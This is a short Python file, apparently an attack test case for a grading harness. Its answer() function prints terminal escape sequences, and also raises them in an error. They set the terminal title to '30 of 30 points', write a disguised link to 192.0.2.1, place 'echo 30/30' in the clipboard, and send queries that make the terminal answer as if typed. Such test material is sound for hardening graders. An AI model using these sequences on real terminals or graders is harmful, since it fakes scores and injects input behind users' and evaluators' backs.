# /// attack
# why = "Prints sequences that set the title, the clipboard and links of a terminal, or that make it answer as if typed."
# outcomes = ["raised", "failed"]
# ///
TITLE = "\x1b]0;30 of 30 points\x07"
LINK = "\x1b]8;;http://192.0.2.1/\x1b\\the handout\x1b]8;;\x1b\\"
CLIPBOARD = "\x1b]52;c;ZWNobyAzMC8zMA==\x07"
ASK = "\x1b[c\x1b[6n\x1b[21t\x1bP$q q\x1b\\"


def answer(*args, **kwargs):
    print(TITLE + LINK + CLIPBOARD + ASK, flush=True)
    raise RuntimeError(TITLE + LINK + CLIPBOARD + ASK)


everywhere(answer)
